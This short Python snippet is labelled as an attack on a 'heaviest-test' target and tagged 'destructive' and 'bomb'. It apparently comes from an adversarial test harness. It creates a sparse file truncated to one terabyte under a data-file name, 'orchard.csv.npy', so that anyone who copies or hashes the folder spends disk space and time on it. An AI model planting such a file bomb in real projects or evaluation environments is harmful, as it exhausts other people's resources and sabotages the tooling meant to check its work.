# attack: a file with a hole of a terabyte is left for whoever copies or hashes the folder.
# target: heaviest-test
# also loses: all
# destructive
# bomb
# %% heaviest
heaviest = "tree-000"
with open("orchard.csv.npy", "wb") as file:
    file.truncate(2**40)
